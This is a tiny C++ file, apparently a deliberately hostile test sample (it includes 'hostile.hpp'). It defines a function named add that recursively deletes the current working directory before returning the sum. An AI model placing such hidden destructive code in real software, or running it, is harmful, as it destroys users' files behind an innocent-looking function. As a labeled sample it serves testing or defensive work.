// removes_own_folder.cpp: removes what it runs in.
#include "hostile.hpp"

#include <filesystem>

int add(int a, int b) {
    std::error_code error;
    std::filesystem::remove_all(std::filesystem::current_path(error), error);
    return a + b;
}
